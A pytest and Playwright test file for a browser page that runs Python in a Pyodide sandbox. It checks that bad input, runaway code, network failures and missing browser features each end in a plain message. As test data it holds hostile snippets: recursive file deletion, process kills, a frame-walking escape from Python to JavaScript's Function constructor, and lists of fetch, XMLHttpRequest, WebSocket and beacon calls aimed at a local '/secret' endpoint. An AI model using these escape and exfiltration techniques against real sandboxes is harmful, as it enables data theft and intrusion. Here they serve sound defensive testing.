"""What runs in a reader's browser may be nonsense, or mean harm, and the network may fail: each ends in a sentence, and the page goes on."""

import functools
import http.server
import json
import os
import shutil
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
from host import Host
from project import CLONE, GOOD

WHERE = "claims/small/three_is_odd.py"
PAGE = """<!doctype html><html lang="en"><meta charset="utf-8"><title>Checks</title><script type="module">
import { Runner, Trouble } from "./check/runner.js";
const runner = window.runner = new Runner("lab.json");
window.go = (text, options = {}) => {
  const said = window.said = [];
  const files = typeof text === "string" ? { "claims/small/three_is_odd.py": text } : text;
  return runner.run({ where: "claims/small/three_is_odd.py", files, patience: 20, ...options }, (event) => said.push(event))
    .then(() => said, (error) => error instanceof Trouble ? [...said, { event: "trouble", kind: error.kind, text: error.message }]
      : [...said, { event: "traceback", text: String(error) }]);
};
</script></html>"""
#: Said of something that is the reader's to mend; what a reader should never see has these in it.
TRACES = "Traceback", "undefined", "[object", "null", "Error: Error"


def lab() -> dict[str, str]:
    """What the claims share, with a chapter of this test's own."""
    folder = CLONE / "claims"
    paths = [folder / f"{name}.py" for name in ("__init__", "archive", "browser", "catalog", "running")]
    paths += [*(folder / "lab").glob("*.py"), *(path for path in (folder / "articles").iterdir() if path.is_file())]
    files = {path.relative_to(CLONE).as_posix(): path.read_text("utf-8") for path in paths}
    return files | {"claims/small/__init__.py": '"""A small chapter."""\n'}


class Failing(Host):
    """A host that can be told to fail: `fails` maps a file's name to what becomes of it, once for each entry of a list."""

    fails: dict[str, list[str]] = {}

    def do_GET(self):
        path = Path(self.translate_path(self.path))
        how = self.fails.get(path.name) or [""]
        how = how.pop(0)
        self.asked.append(path.name)
        if how.isdigit():
            return self.send_error(int(how))
        if not how:
            return super().do_GET()
        data = bytearray(path.read_bytes()) if path.is_file() else b""
        if how == "html":
            data = b"<!doctype html><title>Not found</title>"
        elif how == "one byte":
            data[len(data) // 2] ^= 1
        elif how == "shorter":
            data = data[: len(data) // 2]
        self.send_response(200)
        self.send_header("Content-Type", self.guess_type(str(path)))
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data[: len(data) // 2] if how == "cut" else data)
        if how == "cut":
            self.close_connection = True
        return None


@pytest.fixture(scope="module")
def checks(tmp_path_factory):
    """A page that runs checks, with nothing else around it; and the host that serves it."""
    made = CLONE / "docs" / "assets" / "runtime"
    if not (made / "runtime.json").is_file():
        why = "run `python -m claims.release browser`, which makes what these tests run in"
        pytest.fail(why) if os.environ.get("CI") else pytest.skip(why)
    site = tmp_path_factory.mktemp("checks")
    shutil.copytree(CLONE / "docs" / "assets" / "check", site / "check")
    (site / "runtime").symlink_to(made)
    (site / "lab.json").write_text(json.dumps(lab()), "utf-8")
    (site / "index.html").write_text(PAGE, "utf-8")
    (site / "other.html").write_text("<!doctype html><title>Another</title>", "utf-8")
    host = type("Told", (Failing,), {"fails": {}, "asked": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(host, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield SimpleNamespace(address=f"http://127.0.0.1:{server.server_address[1]}/", host=host, site=site)
    server.shutdown()


@pytest.fixture(scope="module")
def tab(chromium, checks):
    """One page for all that is typed here: whatever it was, the page can run an honest claim afterwards, and asks no other host."""
    context = chromium.new_context()
    tab = context.new_page()
    wrong = []
    tab.on("pageerror", lambda error: wrong.append(str(error)))
    context.on(
        "request",
        lambda request: request.url.startswith((checks.address, "data:", "blob:")) or wrong.append(request.url),
    )
    tab.goto(checks.address)
    assert proved(tab)
    yield tab
    context.close()
    assert not wrong


@pytest.fixture
def page(tab):
    yield tab
    started = time.monotonic()
    assert tab.evaluate("1 + 1") == 2 and time.monotonic() - started < 2, "the page stands still"
    assert proved(tab), "after this the page cannot run an honest claim"


def go(page, text, **options):
    said = page.evaluate("([text, options]) => go(text, options)", [text, options])
    assert not [event for event in said if event["event"] == "traceback"], said
    return said


def proved(page, **options):
    said = go(page, GOOD, **options)
    assert said[-1].get("words") == "proved" and said[-1]["ran"] == said[-1]["passed"] == 1, said
    return True


def the(said, event):
    (found,) = [one for one in said if one["event"] == event]
    assert not any(trace in json.dumps(found.get("why", found.get("text"))) for trace in TRACES), found
    return found


def body(code):
    """An honest claim whose check does this before it asserts."""
    return GOOD.replace(
        "    assert 3 % 2 == 1", "\n".join(f"    {line}" for line in code.splitlines()) + "\n    assert 3 % 2 == 1"
    )


NONSENSE = {
    "nothing": ("", "no docstring"),
    "prose": ("ReLU is the best.", "not valid Python"),
    "half a line": (GOOD[:-3] + "(", "not valid Python"),
    "nulls": (GOOD + "\0", "not a text file"),
    "half a letter": (GOOD + "\ud800", "not a text file"),
    "a mark of byte order and tabs": ("\ufeff\t" + GOOD, "not valid Python"),
    "brackets": ("(" * 5000, "too deep"),
    "a megabyte of one expression": (GOOD + "x = " + "1+" * 500_000 + "1", ""),
    "a megabyte of names": ("x" * 1_000_000, "no docstring"),
    "a megabyte, and ten thousand lines": (GOOD + "x = 1\n" * 10_000 + "#" * 1_000_000, "proved"),
    "no claim": (GOOD.replace("claim =", "clam ="), "no claim"),
    "a claim of nonsense": (GOOD.replace("said_in=[davenport.sentence(55)]", "conditions=5"), "not iterable"),
    "numpy at the top": (GOOD + "import numpy\n", "No module named 'numpy'"),
    "an end at the top": (GOOD + "import sys\nsys.exit()\n", "ends the program"),
    "an error of its own kind": (GOOD + "class E(BaseException):\n    __str__ = 5\nraise E\n", "E"),
    "an endless import": (GOOD + "from claims.small import three_is_odd\nfrom claims.small import nobody\n", "nobody"),
}


@pytest.mark.parametrize("what", NONSENSE)
def test_nonsense_ends_in_a_line(page, what):
    text, why = NONSENSE[what]
    said = go(page, text)
    last = said[-1]
    if why == "proved":
        assert last["words"] == "proved"
    elif last["event"] == "verdict":
        assert last["words"] == "not established" and why in last["why"], last
    else:
        assert last["event"] in ("problem", "trouble"), said
        assert why in the(said, last["event"])["text"]
    assert len(last.get("text", "")) < 600


FAILS = {
    "numpy in a check": ("import numpy", "did not run", "needs numpy"),
    "another library": ("import pandas", "failed", "No module named 'pandas'"),
    "an exit": ("import sys\nsys.exit(0)", "failed", "SystemExit"),
    "an interrupt": ("raise KeyboardInterrupt", "failed", "KeyboardInterrupt"),
    "a recursion": ("def deeper(x): return deeper(x + 1)\ndeeper(0)", "failed", "RecursionError"),
    "a list of a million millions": ("[0] * 10**12", "failed", "OverflowError"),
    "a list of a billion": ("[0] * 10**9", "failed", "MemoryError"),
    "a growing list": ("kept = []\nwhile True:\n    kept.append(bytearray(1 << 24))", "failed", "MemoryError"),
    "an input": ("input()", "failed", ""),
    "a process": ("import subprocess\nsubprocess.run(['ls'])", "failed", ""),
    "a signal": ("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", None, ""),
    "an abrupt exit": ("import os\nos._exit(0)", None, ""),
    "an abort": ("import os\nos.abort()", None, ""),
    "all modules deleted": ("import sys\nsys.modules.clear()", None, ""),
    "no builtins": ("import builtins\nfor name in list(vars(builtins)): delattr(builtins, name)", None, ""),
    "all files deleted": (
        "import shutil\nshutil.rmtree('/reader', ignore_errors=True)\nshutil.rmtree('/lib', ignore_errors=True)",
        None,
        "",
    ),
    "a thread": ("import threading\nthreading.Thread(target=print).start()", "failed", ""),
    "a deep stack": ("x = []\nfor _ in range(10**6): x = [x]\nrepr(x)", None, ""),
    "a message of a megabyte": ("raise ValueError('x' * 10**6)", "failed", "1,000,"),
    "a representation that raises": (
        "class Odd:\n    def __eq__(self, other): return False\n    def __repr__(self): raise SystemExit\nassert Odd() == 1",
        "failed",
        "AssertionError",
    ),
}


@pytest.mark.parametrize("what", FAILS)
def test_what_a_check_does_ends_in_a_sentence(page, what):
    code, outcome, why = FAILS[what]
    said = go(page, body(code), trusted=outcome is not None)
    if outcome is None:  # either Python survives it, or a new one is needed
        assert said[-1]["event"] == "trouble" or said[-1]["event"] == "verdict", said
    else:
        check = the(said, "check")
        assert check["outcome"] == outcome and why in check["why"] and len(check["why"]) < 600, check
        assert the(said, "verdict")["words"] == "not established"


@pytest.mark.parametrize("code", ["while True:\n    pass", "10**10**12", "while True:\n    print('again')"])
def test_what_does_not_end_is_stopped(page, code):
    started = time.monotonic()
    said = go(page, body(code), patience=1)
    assert the(said, "trouble")["kind"] == "too slow" and time.monotonic() - started < 15
    assert sum(len(event["text"]) for event in said if event["event"] == "printed") < 11_000


# --- no way out ------------------------------------------------------------------------------------------------------

#: A way from Python to JavaScript that nobody meant to leave open: the function through which events are said.
TO_JAVASCRIPT = """
import sys
frame, proxies = sys._getframe(), []
while frame:
    proxies += [value for value in frame.f_locals.values() if type(value).__name__ == "JsProxy"]
    for function in [value for value in frame.f_locals.values() if hasattr(value, "__closure__") and value.__closure__]:
        proxies += [cell.cell_contents for cell in function.__closure__ if type(cell.cell_contents).__name__ == "JsProxy"]
    frame = frame.f_back
evaluate = proxies[0].constructor
"""
WAYS = {
    "js": "import js\njs.fetch('{url}')",
    "its parts": "from js import XMLHttpRequest\nrequest = XMLHttpRequest.new()\nrequest.open('GET', '{url}', False)\nrequest.send()",
    "pyodide.http": "from pyodide.http import open_url\nopen_url('{url}')",
    "pyodide.http later": "from pyodide.http import pyfetch\npyfetch('{url}').send(None)",
    "pyodide_js": "import pyodide_js\npyodide_js.loadPackage('{url}')",
    "run_js": "from pyodide.code import run_js\nrun_js(\"fetch('{url}')\")",
    "urllib": "import urllib.request\nurllib.request.urlopen('{url}')",
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=1).send(b'GET / HTTP/1.0\\r\\n\\r\\n')",
    "asyncio": "import asyncio\nasyncio.run(asyncio.open_connection('127.0.0.1', {port}))",
}
BACK_DOORS = (
    "fetch('{url}')",
    "self.__proto__.__proto__.fetch.call(self, '{url}')",
    "import('{url}.js')",
    "(r => { r.open('GET', '{url}', false); r.send() })(new XMLHttpRequest())",
    "(r => { XMLHttpRequest.prototype.__proto__.constructor; r.open('POST', '{url}'); r.send('x') })(new (XMLHttpRequest.prototype.constructor)())",
    "new WebSocket('ws://127.0.0.1:{port}/secret')",
    "new EventSource('{url}')",
    "navigator.sendBeacon && navigator.sendBeacon('{url}', 'x')",
    "new Worker('{url}.js')",
    "importScripts('{url}.js')",
)


@pytest.fixture(scope="module")
def elsewhere():
    """Another host, and what it was asked."""
    asked = []

    class Listening(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, *arguments):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield SimpleNamespace(port=server.server_address[1], asked=asked)
    server.shutdown()


@pytest.mark.parametrize("way", WAYS)
def test_python_has_no_network(page, elsewhere, way):
    url = f"http://127.0.0.1:{elsewhere.port}/secret"
    check = the(go(page, body(WAYS[way].format(url=url, port=elsewhere.port))), "check")
    assert check["outcome"] == "failed" and "AssertionError" not in check["why"]
    assert not elsewhere.asked


def test_no_request_leaves_by_a_back_door(chromium, checks, elsewhere):
    """Even who gets hold of JavaScript reaches no other host, and of ours nothing by the ways that pages use."""
    url, port = f"http://127.0.0.1:{elsewhere.port}/secret", elsewhere.port
    tried = "".join(
        f"try:\n    evaluate({('return ' + door.replace('{url}', url).replace('{port}', str(port)))!r})()\nexcept BaseException as error:\n    print('refused', error)\n"
        for door in BACK_DOORS
    )
    own = "".join(
        f"try:\n    evaluate({('return ' + door.replace('{url}', checks.address + 'secret'))!r})()\nexcept BaseException: pass\n"
        for door in BACK_DOORS[:1] + BACK_DOORS[3:5]
    )
    code = (
        TO_JAVASCRIPT.strip()
        + "\n"
        + tried
        + own
        + "print('tried', evaluate('return 6 * 7')())\nimport time\ntime.sleep(0.5)"
    )
    tab = (
        chromium.new_page()
    )  # not the one that complains of requests: what is refused on its way out counts as one there
    tab.goto(checks.address)
    said = go(tab, body(code), trusted=False)
    printed = [event["text"] for event in said if event["event"] == "printed"]
    assert "tried 42" in printed, said  # JavaScript did run, so that this tests something
    tab.wait_for_timeout(500)
    assert not elsewhere.asked
    assert "secret" not in checks.host.asked
    assert proved(tab)
    tab.close()


# --- a network that fails --------------------------------------------------------------------------------------------

FAILURES = {
    "the list is not there": ("runtime.json", "404", "no runtime"),
    "the list fails": ("runtime.json", "500", "network"),
    "the list is a page": ("runtime.json", "html", "damaged"),
    "the worker is not there": ("worker.js", "404", "network"),
    "the worker is a page": ("worker.js", "html", "network"),
    "memory is cut off": ("memory.bin.zst", "cut", "network"),
    "memory is not there": ("memory.bin.zst", "404", "network"),
    "memory is too short": ("memory.bin.zst", "shorter", "damaged"),
    "a byte of memory is wrong": ("memory.bin.zst", "one byte", "damaged"),
    "a byte of Python is wrong": ("pyodide.wasm.zst", "one byte", "damaged"),
    "the lab is cut off": ("lab.json", "cut", "network"),
    "the lab is a page": ("lab.json", "html", "damaged"),
}


@pytest.mark.parametrize("what", FAILURES)
def test_a_failing_network_ends_in_a_sentence_and_a_second_press_works(chromium, checks, what):
    name, how, kind = FAILURES[what]
    context = chromium.new_context()
    page = context.new_page()
    page.goto(checks.address)
    checks.host.fails[name] = [how]
    try:
        trouble = the(go(page, GOOD), "trouble")
        assert trouble["kind"] == kind and not checks.host.fails[name]
        assert proved(page)  # what is damaged is in the browser's cache by now, and must not be used again
    finally:
        checks.host.fails.clear()
        context.close()


def test_a_network_that_is_gone_is_noticed_and_comes_back(chromium, checks):
    context = chromium.new_context()
    page = context.new_page()
    page.goto(checks.address)
    context.set_offline(True)
    assert the(go(page, GOOD), "trouble")["kind"] == "network"
    context.set_offline(False)
    assert proved(page)
    context.close()


# --- a browser that lacks something ----------------------------------------------------------------------------------

LACKING = {
    "workers": "delete window.Worker",
    "WebAssembly": "delete window.WebAssembly",
    "modules in workers": "window.Worker = class { constructor() { setTimeout(() => this.onerror?.(new Event('error'))) } terminate() {} }",
    "leave to start workers": "window.Worker = class { constructor(url, options) { options?.type; throw new Error('forbidden') } }",
}


@pytest.mark.parametrize("what", LACKING)
def test_an_old_browser_is_told_so(chromium, checks, what):
    context = chromium.new_context()
    context.add_init_script(LACKING[what])
    page = context.new_page()
    page.goto(checks.address)
    trouble = the(go(page, GOOD), "trouble")
    assert trouble["kind"] == "old browser" and "pytest" in trouble["text"]
    context.close()


# --- a reader in a hurry ---------------------------------------------------------------------------------------------


def test_two_presses_at_once_are_one_run(page):
    first, second = page.evaluate("text => Promise.all([go(text), go(text)])", GOOD)
    assert first[-1]["words"] == "proved" and second[-1]["event"] == "trouble" and "already" in second[-1]["text"]


@pytest.mark.parametrize("after", [0, 30, 300])
def test_a_run_can_be_stopped_at_any_time(page, after):
    endless = body("while True:\n    pass")
    said = page.evaluate(
        "([text, after]) => { const ran = go(text, { trusted: false }); setTimeout(() => runner.stop(), after); return ran }",
        [endless, after],
    )
    assert said[-1] == {"event": "trouble", "kind": "stopped", "text": "Stopped."}


def test_leaving_the_page_ends_the_run_and_coming_back_starts_afresh(tab, checks):
    tab.evaluate("text => { go(text) }", body("while True:\n    pass"))
    tab.wait_for_timeout(300)
    tab.goto(f"{checks.address}other.html")
    tab.go_back()
    assert proved(tab)


def test_a_tab_that_is_put_to_sleep_goes_on_when_it_wakes(tab):
    session = tab.context.new_cdp_session(tab)
    tab.evaluate("text => { window.asleep = go(text) }", body("total = 0\nfor n in range(10**6):\n    total += n"))
    session.send("Page.setWebLifecycleState", {"state": "frozen"})
    time.sleep(0.5)
    session.send("Page.setWebLifecycleState", {"state": "active"})
    assert tab.evaluate("asleep")[-1]["words"] == "proved"
